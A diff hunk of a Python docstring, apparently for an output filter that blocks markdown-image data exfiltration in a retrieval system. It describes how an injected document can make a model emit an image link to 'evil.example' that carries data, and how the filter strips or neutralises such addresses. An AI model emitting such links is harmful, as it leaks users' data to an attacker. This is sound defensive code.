@@ -4,6 +4,8 @@ A document can make a model write ``![](https://evil.example/?q=...)`` with data
 shows the answer would send it there. So an address that occurs in no chunk is removed, and an image of a
 known one becomes a link: the choice among images could carry data too. A construct is held back until it is
 complete, or removed if it gets too long; other text is never held back.
+
+One class and more than 300 lines: the resolvers of the constructs share the state of the scan.
 """
 
 import re
